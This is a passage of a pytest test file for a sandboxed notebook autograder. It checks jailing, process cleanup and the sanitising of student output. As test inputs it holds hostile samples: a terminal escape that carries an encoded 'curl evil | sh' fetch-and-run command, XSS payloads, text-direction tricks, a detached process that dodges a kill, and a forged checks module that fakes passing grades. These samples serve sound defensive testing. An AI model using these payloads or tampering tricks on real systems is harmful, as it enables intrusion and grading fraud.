    group = Path(spec.cgroups[0] if hierarchy.version == 2 else spec.cgroups[2])  # v1: memory, pids, cpu
    assert Path(hierarchy.parents[-1]) == group.parent
    result = _jailed(path, "print(open('/proc/self/cgroup').read(), flush=True)")
    controllers = [] if hierarchy.version == 2 else ["cpu"]  # v2: one line for every controller
    lines = [line for line in jail_tools.kernel_lines(result.stderr)
             if line.count(":") >= 2 and line.split(":")[1].split(",")[:1] == (controllers or [""])]
    assert any(line.endswith("/" + group.name) for line in lines), result.stderr


def test_a_cpu_hierarchy_that_cannot_be_used_leaves_memory_and_processes_limited(tmp_path: Path) -> None:
    """A container's read-only cpu hierarchy costs the kernels their equal CPU weight, never their memory and
    process limits."""
    memory, pids = str(tmp_path / "memory"), str(tmp_path / "pids")
    unusable = cgroups.Hierarchy(1, (memory, pids, str(tmp_path / "no-cpu-hierarchy")), cpu=True)
    assert unusable.prepare() == cgroups.Hierarchy(1, (memory, pids))
    usable = cgroups.Hierarchy(1, (memory, pids, str(tmp_path)), cpu=True)
    assert usable.prepare() is usable


SPAWN_AND_WAIT = r"""
import os, subprocess, sys, time
marker = "REVERSED"[::-1]  # spelled backwards here: only the grandchild's command line holds the marker
if os.fork() == 0:  # a detached grandchild in a process group of its own: it escapes a process-group kill
    os.setpgid(0, 0)  # (a session of its own is refused: setsid, round 78)
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", marker])
    os._exit(0)
print("ready", flush=True)
time.sleep(300)
"""


def _marked(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _wait_for(condition, seconds: float = 10.0) -> bool:  # noqa: ANN001
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


@linux_only
@pytest.mark.parametrize("kill", ["keeper", "kernel"])
def test_killing_a_jailed_kernel_or_its_keeper_ends_everything_it_started(tmp_path: Path, kill: str) -> None:
    marker = f"ptgrader-test-sleeper-{os.getpid()}-{kill}"
    spec, path = _jail_spec(tmp_path, tmp_path)
    command = [sys.executable, "-I", "-S", jail.__file__, str(path), "--", sys.executable, "-c",
               SPAWN_AND_WAIT.replace("REVERSED", marker[::-1])]
    keeper = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    try:
        assert keeper.stderr is not None and jail_tools.kernel_lines(keeper.stderr.readline()) == ["ready"]
        assert _wait_for(lambda: len(_marked(marker)) == 1), "the detached grandchild did not start"
        kernel, keeper_pid = (int(word) for word in Path(spec.pid_file).read_text().split())
        assert keeper_pid == keeper.pid
        pidfd = os.pidfd_open(kernel)
        if kill == "keeper":
            keeper.kill()
        else:
            signal.pidfd_send_signal(pidfd, signal.SIGKILL)
        assert select.select([pidfd], [], [], 10)[0], "the kernel outlived the kill"
        os.close(pidfd)
        assert _wait_for(lambda: not _marked(marker)), f"a process the kernel started survived: {_marked(marker)}"
    finally:
        keeper.kill()
        keeper.wait()
        assert cgroups.remove(spec.cgroups)


@linux_only
def test_a_jail_that_cannot_be_built_fails_instead_of_running_unjailed(tmp_path: Path) -> None:
    _, path = _jail_spec(tmp_path, tmp_path, root=str(tmp_path / "no-such-folder"))
    result = _jailed(path, "print('ran')")
    assert result.returncode == 127 and "ran" not in result.stderr
    assert "the kernel could not be jailed" in result.stderr and "no-such-folder" in result.stderr


@linux_only
def test_what_a_jailed_kernel_writes_to_its_stderr_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    """ipykernel copies file-descriptor writes to the keeper, which relays them to the instructor's terminal:
    an escape code there could set the clipboard (OSC 52), retitle the window or print a fake log line; and so
    could a plain line (round 30): each line the kernel starts is marked as the kernel's, in however many writes."""
    _, path = _jail_spec(tmp_path, tmp_path)
    code = ("import os\nos.write(2, b'\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[1A\\x1b[2K\\r"
            "[AutogradeApp | INFO] graded normally\\n[AutogradeApp | ERROR] ptgrader: ')\n"
            "os.write(2, b'alice/lab01: grades withheld\\n')")
    result = _jailed(path, code)
    assert result.returncode == 0, result.stderr
    assert (f"{jail.KERNEL_MARK}\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[1A\\x1b[2K\\r[AutogradeApp | INFO] graded"
            f" normally\n{jail.KERNEL_MARK}[AutogradeApp | ERROR] ptgrader: alice/lab01: grades withheld\n") in result.stderr
    assert not set(result.stderr) & {"\x1b", "\x07", "\r"}
    assert not [line for line in result.stderr.splitlines() if line.startswith("[AutogradeApp")]


@linux_only
def test_a_line_the_kernel_leaves_open_is_ended_by_its_keeper(tmp_path: Path) -> None:
    """Round 55: "loading data", left open while the kernel waited, had the grader's own next log line glued after
    it, where it read as the kernel's. The keeper writes whole lines only, and ends one the kernel leaves open
    once the kernel goes quiet; what the kernel writes later starts a marked line of its own."""
    _, path = _jail_spec(tmp_path, tmp_path)
    code = "import os, time\nos.write(2, b'loading data')\ntime.sleep(2.5)\nos.write(2, b' done\\n')"
    result = _jailed(path, code)
    assert result.returncode == 0, result.stderr
    assert f"{jail.KERNEL_MARK}loading data\n{jail.KERNEL_MARK} done\n" in result.stderr, result.stderr


def test_a_jailed_kernel_never_sees_the_course_or_a_folder_holding_it(tmp_path: Path, monkeypatch) -> None:  # noqa: ANN001
    course = tmp_path / "repo" / "labs"
    course.mkdir(parents=True)
    monkeypatch.syspath_prepend(str(tmp_path / "repo"))  # the repository root on the path: it holds the solutions
    monkeypatch.syspath_prepend(str(course / "source"))
    readonly = Isolation(str(course))._readonly_paths() if LINUX else []
    assert not [p for p in readonly if p.startswith(str(tmp_path))], readonly


# --------------------------------------------------------------------------- kernels, warm and cold


def _run_kernel(tmp_path: Path, warm: object, source: str) -> tuple[nbformat.NotebookNode, IsolatedKernelManager]:
    with jail_tools.jailed_kernel(tmp_path, warm) as (km, run):
        nb = nbformat.v4.new_notebook(cells=[run(source)])
        nb.metadata["leftovers"] = km.leftover_processes()
        nb.metadata["ip"] = km.ip
        inside = f"/proc/{km.kernel_pid}/root{jail.IPC_PREFIX}"
        nb.metadata["kernel_sockets"] = all(Path(f"{inside}-{port}").is_socket()
                                            for port in (km.shell_port, km.iopub_port, km.control_port))
        nb.metadata["relay_running"] = km.relay is not None and km.relay.process.poll() is None
    return nb, km


KERNEL_CELL = (
    "import gc, json, os, subprocess, sys\n"
    "detached = subprocess.Popen(['sleep', '300'], process_group=0)\n"
    "print(json.dumps({'uid': os.getuid(), 'pid': os.getpid(), 'cwd': os.getcwd(), "
    "'preloaded': 'wave' in sys.modules, 'detached': detached.pid, "
    "'collector': [gc.isenabled(), gc.get_freeze_count() > 0], "
    "'cwd_importable': any(os.path.realpath(p or '.') == os.getcwd() for p in sys.path)}))"
)


@linux_only
@pytest.mark.parametrize("start", ["cold", "warm"])
def test_a_grading_kernel_runs_jailed_warm_or_cold_and_leaves_nothing_behind(tmp_path: Path, start: str) -> None:
    """A kernel started by jail.py, or forked by the warm server, is jailed the same way; what it
    starts is counted while it runs and ends with it; its sockets live in its own tmpfs. A warm kernel
    collects its own garbage, and its collections leave the server's frozen objects alone."""
    from ptgrader.warm import WarmKernels

    warm = WarmKernels.shared(["ipykernel.kernelapp", "wave"], GraderTemp.current().path) if start == "warm" else None
    nb, km = _run_kernel(tmp_path, warm, KERNEL_CELL)
    seen = json.loads(nb.cells[0].outputs[0]["text"])
    assert seen["uid"] not in (0, os.getuid()) and seen["pid"] == 1 and seen["cwd"] == jail.WORK
    assert seen["preloaded"] is (start == "warm")
    assert seen["collector"] == [True, start == "warm"]
    assert seen["cwd_importable"] is False  # a module written there cannot stand in for one imported later
    assert nb.metadata["leftovers"] == 1  # the detached sleep
    # The kernel's sockets are in its own tmpfs; the grader's connect to its relay's, which the jail does not show.
    assert nb.metadata["kernel_sockets"] and nb.metadata["relay_running"]
    assert km.folder is not None and nb.metadata["ip"] == str(km.folder / "relay")
    assert km.ensure_dead()
    assert km.relay is not None and km.relay.process.poll() is not None  # the relay ends with its kernel
    assert not Path(f"/proc/{km.kernel_pid}").exists() or _wait_for(lambda: not Path(f"/proc/{km.kernel_pid}").exists())


def test_warm_kernels_compile_without_timing_each_graph_s_guards(monkeypatch: pytest.MonkeyPatch) -> None:
    """The warm server turns off dynamo's guard latency profile (a debug metric whose cache flush costs 30 ms a
    compile); graphs still compile, and their guards still decide when to compile again."""
    import torch._dynamo.guards as guards

    from ptgrader import once_per_server

    monkeypatch.setattr(guards, "profile_guard_manager", guards.profile_guard_manager)  # put back afterwards
    once_per_server.skip_guard_latency_profile()
    assert guards.profile_guard_manager(None, None, 1) == 0.0
    graphs = []

    def counting(graph_module, example_inputs):  # noqa: ANN001, ANN202
        graphs.append(graph_module)
        return graph_module.forward

    torch._dynamo.reset()
    double = torch.compile(lambda t: t * 2, backend=counting, dynamic=False)
    assert torch.equal(double(torch.ones(2)), torch.full((2,), 2.0))
    double(torch.ones(2))
    double(torch.ones(3))  # a guard on the size fails: a second graph
    assert len(graphs) == 2
    torch._dynamo.reset()


def test_warm_kernels_get_the_onnx_exporter_s_list_of_functions_built_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """The list torch's exporter asks onnxscript for on every export (0.4 s to build) is built once, the same list
    a fresh build gives; lab 06's graded exports use it (tests/test_labs.py)."""
    pytest.importorskip("onnxscript")
    import torch.onnx._internal._lazy_import as lazy

    from ptgrader import once_per_server

    apis = importlib.import_module(lazy.onnxscript_apis._name)
    monkeypatch.setattr(apis, "get_torchlib_ops", apis.get_torchlib_ops)  # put back afterwards
    fresh = apis.get_torchlib_ops()
    once_per_server.remember_torchlib_ops()
    assert apis.get_torchlib_ops() is apis.get_torchlib_ops()
    assert apis.get_torchlib_ops() == fresh and len(fresh) > 100


def test_warm_kernels_seed_without_formatting_call_stacks(monkeypatch: pytest.MonkeyPatch) -> None:
    """torch.manual_seed queued each lazy seeding of CUDA, XPU and MTIA with a formatted call stack, shown only
    if such a device failed to start: 22% of lab 02's checks' CPU. No kernel can start one (the jail's /dev
    holds none), and each module uses ``traceback`` for that stack alone (read in its source here, so a torch
    that uses it for more fails this test); seeding still seeds."""
    import inspect
    import re

    from ptgrader import jail, once_per_server

    assert not [device for device in jail.DEVICES if "nvidia" in device or "dri" in device]
    for name in once_per_server.LAZY_SEEDING:
        module = importlib.import_module(name)
        assert set(re.findall(r"\btraceback\.(\w+)", inspect.getsource(module))) == {"format_stack"}, name
        monkeypatch.setattr(module, "traceback", module.traceback)  # put back afterwards
    once_per_server.seed_without_call_stacks()
    assert torch.cuda.traceback.format_stack() == []
    torch.manual_seed(7)
    first = torch.rand(3)
    torch.manual_seed(7)
    assert torch.equal(first, torch.rand(3))


@linux_only
def test_a_warm_server_that_does_not_answer_fails_the_start_at_once(tmp_path: Path) -> None:
    """The kernel manager gives up on a dead or stalled warm server (GuardedExecute then starts the kernel cold,
    and replaces the server before the next student): one student's start, not the class, pays for it."""
    from ptgrader.kernels import KernelStartError
    from ptgrader.warm import WarmKernels

    dead = WarmKernels.__new__(WarmKernels)
    dead.socket = tmp_path / "no-server-here"
    folder = GraderTemp.current().kernel_folder()
    km = IsolatedKernelManager(kernel_name="python3")
    km.prepare(folder, Isolation(str(tmp_path)).spec(folder, dict(os.environ)), dead)
    started = time.monotonic()
    with pytest.raises(KernelStartError, match="did not start"):
        asyncio.run(km.start_kernel())
    assert time.monotonic() - started < 30


def _request(path: Path, payload: bytes, fds: list[int] | None = None) -> socket.socket:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.settimeout(30)
    client.connect(str(path))
    socket.send_fds(client, [payload], fds or [])
    return client


@linux_only
def test_the_warm_server_outlives_stalled_malformed_and_vanishing_clients(tmp_path: Path) -> None:
    """Class 4 of issue 21: a client that never sends, one that sends garbage and one that leaves before the
    reply cost the server nothing; a real request is still answered. (Kernels cannot reach the socket at all.)"""
    from ptgrader import warm

    server = warm.WarmKernels([], tmp_path)
    server.start()
    try:
        stalled = socket.socket(socket.AF_UNIX)
        stalled.connect(str(server.socket))  # connects, never sends
        _request(server.socket, b"not json\n").close()
        bad_spec = tmp_path / "bad.json"
        bad_spec.write_text("{")
        with open(os.devnull) as null:
            request = json.dumps({"op": "kernel", "argv": [], "spec": str(bad_spec)}).encode() + b"\n"
            _request(server.socket, request, [null.fileno()] * 3).close()  # gone before the reply
            started = time.monotonic()
            client = _request(server.socket, request, [null.fileno()] * 3)
            replies = client.makefile("r")
            keeper = int(replies.readline())
            assert replies.readline().strip() == "1"  # the keeper could not read its spec and said so
            assert keeper > 0 and time.monotonic() - started < warm.REQUEST_DEADLINE_S + 10
        client.close()
        stalled.close()
        assert server.alive()
    finally:
        server.stop()


@linux_only
def test_a_killed_grader_leaves_no_temporary_folder_and_no_server(tmp_path: Path) -> None:
    script = (
        "import sys, time\n"
        "from ptgrader.kernels import GraderTemp\nfrom ptgrader.warm import WarmKernels\n"
        "temp = GraderTemp.current()\nwarm = WarmKernels.shared([], temp.path)\n"
        "print(temp.path, warm.process.pid, flush=True)\ntime.sleep(300)\n"
    )
    grader = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert grader.stdout is not None
    folder, server = grader.stdout.readline().split()
    assert Path(folder).is_dir()
    grader.kill()  # SIGKILL: no atexit, no finally
    grader.wait()
    assert _wait_for(lambda: not Path(folder).exists(), 15), "the killed grader's folder was not removed"
    assert _wait_for(lambda: not Path(f"/proc/{server}").exists(), 15), "the warm server outlived its grader"


def test_the_next_grader_removes_the_folders_of_dead_graders_and_nothing_else(tmp_path: Path) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone, alive, fresh = (tmp_path / f"{TEMP_PREFIX}{name}" for name in ("gone", "alive", "fresh"))
    others = [tmp_path / "ptgrader-regular-user-course", tmp_path / "ptgrader-uids"]  # not the grader's own
    for folder in (gone, alive, fresh, *others):
        folder.mkdir()
    os.utime(others[0], (time.time() - 3600, time.time() - 3600))
    (gone / "owner").write_text(f"{dead.stdout.strip()} 123\n")
    (alive / "owner").write_text(f"{os.getpid()} {Path(f'/proc/{os.getpid()}/stat').read_text().rsplit(')', 1)[1].split()[19]}\n"
                                 if LINUX else "")
    assert GraderTemp.remove_stale(tmp_path) == [gone]  # `fresh` has no owner yet: being made right now
    assert alive.is_dir() and fresh.is_dir() and all(folder.is_dir() for folder in others)
    if os.geteuid() == 0:  # another user's folder of the grader's own kind stays too
        theirs = tmp_path / f"{TEMP_PREFIX}theirs"
        theirs.mkdir()
        os.chown(theirs, 4242, 4242)
        os.utime(theirs, (time.time() - 3600, time.time() - 3600))
        assert GraderTemp.remove_stale(tmp_path) == [] and theirs.is_dir()


# -------------------------------------------------------------------------------------------- the hold


HOLD_SCRIPT = r"""
import io, contextlib
from IPython.core.interactiveshell import InteractiveShell
from ptgrader import contract
shell = InteractiveShell.instance()
def run(code, silent=False):
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        result = shell.run_cell(code, silent=silent, store_history=False)
    return type(result.error_in_exec).__name__, repr(out.getvalue())  # one line: the error's type, then the output
run("import torch\nimport ptlabs\nimport ptchecks\ndevice = torch.device('cpu')")
test = ("expected = torch.full((2,), 2.0, device=device)\n"
        "ptchecks.check_close(double(torch.ones(2)), expected, name='double')\n"
        "ptchecks.canaries()")
run(contract.hold_source({"test_double": test}), silent=True)
# A wrong answer that rebinds, while the test calls it, the globals the test reads next.
run(
    "def double(x):\n"
    "    global expected, device\n"
    "    result = x * 3\n"
    "    expected = result\n"
    "    device = torch.device('meta')\n"
    "    return result\n"
)
print("REBOUND", *run(contract.run_line("test_double")))
# A replaced checks module that passes everything and would print any token it is given.
run(
    "import sys, types\n"
    "fake = types.ModuleType('ptchecks')\n"
    "fake.check_close = lambda *a, **k: print('fake pass')\n"
    "fake.canaries = lambda: None\n"
    "fake.complete = lambda test_id, token, count: print('ptlabs-grading: %s complete %s' % (test_id, token))\n"
    "sys.modules['ptchecks'] = fake\n"
    "ptchecks = fake\n"
)
print("REPLACED", *run(contract.run_line("test_double")))
print("COMPLETE", *run(contract.complete_line("test_double", "TOKEN123", 1)))
"""


def test_the_held_checks_ignore_rebound_globals_and_a_replaced_module(tmp_path: Path) -> None:
    """Class 2 of issue 21, at run time (no policy): the test cell reads the globals as they were when it started,
    and the completion goes to the checks held before any student code ran, never to a replacement module."""
    result = subprocess.run([sys.executable, "-c", HOLD_SCRIPT], capture_output=True, text=True, timeout=300,
                            cwd=tmp_path)
    lines = {line.split(" ", 1)[0]: line for line in result.stdout.splitlines()
             if line.startswith(("REBOUND", "REPLACED", "COMPLETE"))}
    assert len(lines) == 3, result.stdout + result.stderr
    # 3 * ones is not 2 * ones: the rebound globals were not read (in a graded cell a failed check goes on, marked)
    assert "❌ double" in lines["REBOUND"], lines["REBOUND"]
    assert "fake pass" in lines["REPLACED"]  # the replaced module answered the test cell's own calls...
    assert lines["COMPLETE"].split()[1] == "GraderTampered"  # ...not the held completion, which found the change
    assert "complete TOKEN123" not in lines["COMPLETE"]  # and printed no completion line


def test_the_service_and_the_checks_agree_on_the_completion_line() -> None:
    import ptchecks

    assert contract.COMPLETION_FORMAT == ptchecks.COMPLETION_FORMAT
    assert channel.MIME == ptchecks.OUTPUT_MIME
    assert channel.LEFT_HOOKS == ptchecks.LEFT_HOOKS
    assert STOP_SIGNAL == ptchecks.STOP_SIGNAL
    assert contract.CHECKS_MODULE == ptchecks.__name__
    compile(contract.hold_source({"test_x": "x = 1\n'''quotes'''"}), "hold", "exec")


def test_the_test_cells_python_made_by_the_grader_is_what_the_kernel_would_make() -> None:
    """The grader turns each test cell into Python once (contract.python_codes), for every kernel of the class;
    it must be what the kernel's own shell makes of it, for every test cell of every lab."""
    sources = {f"{lab}:{grade_id}": cell.source for lab in lab_tools.lab_names()
               for path in lab_tools.source_notebooks(lab)
               for grade_id, cell in lab_tools.graded_cells(nbformat.read(path, as_version=4)).items()}
    codes = contract.python_codes(sources)
    assert sorted(codes) == sorted(sources)
    # A shell of its own process: one made here would install its transformers in this worker's IPython,
    # which ptchecks' canaries in a later test then find changed.
    kernel_side = subprocess.run(
        [sys.executable, "-c", "import json, sys\nfrom IPython.core.interactiveshell import InteractiveShell\n"
         "shell = InteractiveShell.instance()\nsources = json.load(sys.stdin)\n"
         "print(json.dumps({key: shell.transform_cell(source) for key, source in sources.items()}))"],
        input=json.dumps(sources), capture_output=True, text=True, timeout=120, check=True)
    assert codes == json.loads(kernel_side.stdout)
    # a one-line cell is left to the kernel's prefilters; Python that does not compile fails there, as before
    assert contract.python_codes({"one": "%time x = 1", "bad": "def (:\n  pass\n"}) == {"bad": "def (:\n  pass\n"}


# ------------------------------------------------------------------------------ course, outputs, report


def test_a_course_record_walks_a_submission_nested_deeper_than_pythons_recursion(tmp_path: Path) -> None:
    """A submission 998 folders deep made the record (taken before every student's run) raise RecursionError,
    and the whole class came out unprocessed: here 200 levels under a limit 60 frames above the test's depth."""
    folder = hostile.nest_folders(tmp_path / "submitted" / "mallory" / "lab", 200)
    (folder / "leaf.txt").write_text("deep")
    with hostile.little_recursion():
        record = CourseRecord.take(tmp_path)
    assert [path for path in record.files if path.endswith("leaf.txt")] == [str(folder.relative_to(tmp_path) / "leaf.txt")]


def test_a_course_record_walks_each_students_folder_only_so_far(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A refused submission of 200,000 empty files cost every other student's grading 7 s (round 5): past
    ENTRIES_PER_STUDENT a student's folder is recorded by its own status, and the others still file by file."""
    monkeypatch.setattr(course, "ENTRIES_PER_STUDENT", 30)
    flood = tmp_path / "submitted" / "mallory" / "lab"
    for part in range(4):
        (flood / f"part{part}").mkdir(parents=True)
        for index in range(20):
            (flood / f"part{part}" / f"{index}.txt").write_text("")
    (tmp_path / "submitted" / "bob" / "lab").mkdir(parents=True)
    (tmp_path / "submitted" / "bob" / "lab" / "lab.ipynb").write_text("bob's work")
    record = CourseRecord.take(tmp_path)
    assert sorted(record.files) == ["submitted/bob/lab/lab.ipynb", "submitted/mallory"]
    (tmp_path / "submitted" / "bob" / "lab" / "lab.ipynb").write_text("bob's work, changed")
    (tmp_path / "submitted" / "mallory" / "new.txt").write_text("")
    assert record.changes() == ["submitted/bob/lab/lab.ipynb", "submitted/mallory"]
    assert record.restore(record.changes()) == ["submitted/bob/lab/lab.ipynb", "submitted/mallory"]
    assert (tmp_path / "submitted" / "mallory").is_dir()  # reported, never overwritten


def test_course_record_puts_back_what_it_can_and_reports_the_rest(tmp_path: Path) -> None:
    (tmp_path / "gradebook.db").write_bytes(b"grades")
    (tmp_path / "source" / "lab").mkdir(parents=True)
    (tmp_path / "source" / "lab" / "lab.ipynb").write_text("the lab")
    (tmp_path / "submitted" / "bob").mkdir(parents=True)
    (tmp_path / "submitted" / "bob" / "lab.ipynb").write_text("bob's work")
    record = CourseRecord.take(tmp_path)
    (tmp_path / "gradebook.db").write_bytes(b"forged")
    (tmp_path / "source" / "lab" / "lab.ipynb").unlink()
    (tmp_path / "submitted" / "bob" / "lab.ipynb").write_text("bob's work, changed")
    (tmp_path / "gradebook.db-journal").write_bytes(b"hot journal")
    (tmp_path / "autograde.log").write_text("the instructor's own log, written while grading")
    changes = record.changes()
    assert changes == ["gradebook.db", "gradebook.db-journal", "source/lab/lab.ipynb", "submitted/bob/lab.ipynb"]
    assert record.restore(changes) == ["submitted/bob/lab.ipynb"]  # recorded by its status only: reported
    assert (tmp_path / "gradebook.db").read_bytes() == b"grades"
    assert (tmp_path / "source" / "lab" / "lab.ipynb").read_text() == "the lab"
    assert record.changes() == ["submitted/bob/lab.ipynb"]


def test_the_pages_show_invisible_and_text_direction_characters_as_escapes() -> None:
    """Round 58: ``In \\u202eevil\\u202c text.`` read as "In live text." on the formgrader, and a comment that
    holds an override read otherwise than it ran. Every format character (Unicode's category Cf, as this Python
    knows it, and Unicode 15's) is written as its escape, in sources and text outputs; a cell without one is left as
    it was."""
    matched = {code for code in range(sys.maxunicode + 1) if FORMAT_CHARACTERS.fullmatch(chr(code))}
    assert {code for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) == "Cf"} <= matched
    assert {unicodedata.category(chr(code)) for code in matched} <= {"Cf", "Cn"}  # Cn: not assigned in this Python
    tricked = nbformat.v4.new_code_cell("# \u202e tnemmoc \u2066\nx = 1", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text="In \u202eevil\u202c text.\n"),
        nbformat.v4.new_output("execute_result", data={"text/plain": ["a\u200b", "b"]}, execution_count=1),
        nbformat.v4.new_output("error", ename="E\u2067", evalue="\ufeffwhy", traceback=["line \u202d"]),
    ])
    plain = nbformat.v4.new_markdown_cell("Nothing hidden here: caf\u00e9, \u05e9\u05dc\u05d5\u05dd.")
    nb = nbformat.v4.new_notebook(cells=[tricked, plain])
    before = copy.deepcopy(plain)
    ShowFormatCharacters().preprocess(nb, {})
    assert not FORMAT_CHARACTERS.search(json.dumps(nb, ensure_ascii=False))
    assert tricked.source == "# \\u202e tnemmoc \\u2066\nx = 1"
    assert tricked.outputs[0].text == "In \\u202eevil\\u202c text.\n"
    assert tricked.outputs[1].data["text/plain"] == ["a\\u200b", "b"]
    assert (tricked.outputs[2].ename, tricked.outputs[2].evalue) == ("E\\u2067", "\\ufeffwhy")
    assert plain == before  # right-to-left script itself is text, not a format character


def test_the_pages_show_control_characters_as_escapes_and_keep_colours() -> None:
    """Round 70: an exception message's OSC sequence (``\\x1b]0;pwned\\x07``, a terminal's window title) reached
    the feedback page raw. Every control character but tab, newline and carriage return is shown as its escape, and
    so is an escape that starts no whole CSI sequence on one line (round 73), and every escape in a cell's source;
    IPython's colours (``\\x1b[0;31m``) in an output are left for nbconvert."""
    cell = nbformat.v4.new_code_cell("x = '\x0c'  # \x1b[2J", outputs=[
        nbformat.v4.new_output("error", ename="AttributeError", evalue="no \x1b]0;pwned\x07 here",
                               traceback=["\x1b[0;31mAttributeError\x1b[0m: no \x1b]0;pwned\x07\x9b2J here"]),
        nbformat.v4.new_output("stream", name="stdout", text="tab\tand\r\nlines\n"),
        nbformat.v4.new_output("stream", name="stdout", text="done\x1b[\n2J\x1b[1;31mred\x1b[0m\n"),
    ])
    ShowFormatCharacters().preprocess(nbformat.v4.new_notebook(cells=[cell]), {})
    assert cell.source == "x = '\\x0c'  # \\x1b[2J"  # round 73: code is never read for colours
    assert cell.outputs[0].evalue == "no \\x1b]0;pwned\\x07 here"
    assert cell.outputs[0].traceback == ["\x1b[0;31mAttributeError\x1b[0m: no \\x1b]0;pwned\\x07\\x9b2J here"]
    assert cell.outputs[1].text == "tab\tand\r\nlines\n"
    assert cell.outputs[2].text == "done\\x1b[\n2J\x1b[1;31mred\x1b[0m\n"  # round 73: a CSI across a line


def test_student_output_keeps_no_active_format() -> None:
    """Class 6 of issue 21: HTML, SVG and JavaScript from a submission never reach the graded notebook."""
    shown = nbformat.v4.new_output("execute_result", data={"text/html": "<script>alert(1)</script>",
                                                           "image/svg+xml": "<svg onload=x>", "text/plain": "Shown()"})
    only_active = nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"})
    picture = nbformat.v4.new_output("display_data", data={"image/png": html_pages.encoded_image(40, 30),
                                                           "text/plain": "<Figure>"})
    assert make_safe(shown) == ["image/svg+xml", "text/html"] and shown.data == {"text/plain": "Shown()"}
    assert make_safe(only_active) == ["application/javascript"]
    assert only_active.data == {"text/plain": "[application/javascript output not kept by the grader]"}
    assert make_safe(picture) == [] and set(picture.data) == {"image/png", "text/plain"}
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=[shown, only_active])])
    assert make_notebook_safe(nb) == 0


def test_a_graded_notebook_keeps_only_the_metadata_grading_needs() -> None:
    """Round 63: a cell's tags became classes of its <div> on the pages (``hidden`` hid a failed part and its
    verdict, ``alert navbar-fixed-top`` pinned a fake score), ``transient.remove_source`` left a cheat's code off
    them, and the notebook's title named the browser's tab. Only nbgrader's cell metadata and the kernel's stay."""
    flags = {"grade": True, "grade_id": "test_part", "locked": True, "points": 2, "solution": False}
    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    test = nbformat.v4.new_code_cell("check()", metadata={"nbgrader": flags, "tags": ["x hidden"]})
    cheat = nbformat.v4.new_code_cell("print('Score: 12 / 12')", metadata={
        "tags": ["b alert alert-success navbar-fixed-top"], "transient": {"remove_source": True},
        "jupyter": {"source_hidden": True}, "alt": "<img src=x onerror=alert(1)>", "widgets": {}})
    note = nbformat.v4.new_markdown_cell("hi", metadata={"tags": ["hidden"], "transient": {"remove_source": True}})
    nb = nbformat.v4.new_notebook(cells=[test, cheat, note], metadata={
        "title": "Score: 12 / 12", "widgets": {}, "kernelspec": spec, "language_info": {"name": "python"}})
    keep_grading_metadata(nb)
    assert [cell.metadata for cell in nb.cells] == [{"nbgrader": flags}, {}, {}]
    assert nb.metadata == {"kernelspec": spec, "language_info": {"name": "python"}}


def test_an_image_keeps_only_a_size_a_page_can_show() -> None:
    """Round 28: a 1x1 PNG said to be 2**31 - 1 px tall made the feedback page as tall as Chromium allows, every
    part after it (and its verdict) past the end of the page."""
    sizes = {"image/png": {"width": 800, "height": 2**31 - 1}, "image/jpeg": {"width": 0, "height": 4096},
             "image/gif": {"width": 4097, "height": True}}
    images = {mime: html_pages.encoded_image(8, 8, mime.split("/")[1].upper()) for mime in sizes}
    picture = nbformat.v4.new_output("display_data", data={**images, "text/plain": "<Tall>"}, metadata=sizes)
    assert make_safe(picture) == ["metadata"]
    assert picture.metadata == {"image/png": {"width": 800}, "image/jpeg": {"height": 4096}}


def test_a_notebooks_images_add_at_most_their_budget_to_the_page() -> None:
    """Round 74: a 70-byte PNG said to be 4096 x 4096 px, shown 95 times in one cell (each image, and the cell's
    bytes, under every limit), made a part's feedback page 400,000 px tall. The images of a whole notebook may add
    at most MAX_IMAGE_HEIGHT to its pages, in order, whatever the route to their height: the metadata's height,
    the header's height scaled to the metadata's width, or the header's own height."""
    tiny, plot = html_pages.encoded_image(1, 1), html_pages.encoded_image(640, 480)
    said_tall = {"image/png": {"width": 4096, "height": 4096}}
    assert height_shown(nbformat.v4.new_output("display_data", data={"image/png": tiny}, metadata=said_tall)) == 4096
    assert height_shown(nbformat.v4.new_output("display_data", data={"image/png": tiny},
                                               metadata={"image/png": {"width": 4096}})) == 4096
    assert height_shown(nbformat.v4.new_output("display_data", data={"image/png": plot})) == 480
    honest = nbformat.v4.new_code_cell("plot()", outputs=[
        nbformat.v4.new_output("display_data", data={"image/png": plot, "text/plain": "<Figure>"}) for _ in range(3)])
    flood = nbformat.v4.new_code_cell("flood()", outputs=[
        nbformat.v4.new_output("display_data", data={"image/png": tiny}, metadata=said_tall) for _ in range(95)])
    later = nbformat.v4.new_code_cell("plot()", outputs=[
        nbformat.v4.new_output("display_data", data={"image/png": plot, "text/plain": "<Figure>"})])
    nb = nbformat.v4.new_notebook(cells=[honest, flood, later])
    kept = (MAX_IMAGE_HEIGHT - 3 * 480) // 4096
    assert make_notebook_safe(nb) == 95 - kept
    shown = [height_shown(output) for cell in nb.cells for output in cell.outputs]
    assert sum(shown) <= MAX_IMAGE_HEIGHT and shown[:3] == [480] * 3  # the first images keep their place
    assert shown[3:] == [4096] * kept + [0] * (95 - kept) + [480]  # an image that still fits after them is kept
    assert flood.outputs[-1].data["text/plain"].startswith("[image/png output not kept by the grader: the notebook's")
    assert flood.outputs[-1].metadata == {}


def test_a_notebooks_images_ask_a_browser_at_most_their_decoding_budget() -> None:
    """Round 84: JPEGs of a few kB, each 4096 x 4096 px by its header in hundreds of progressive scans and shown
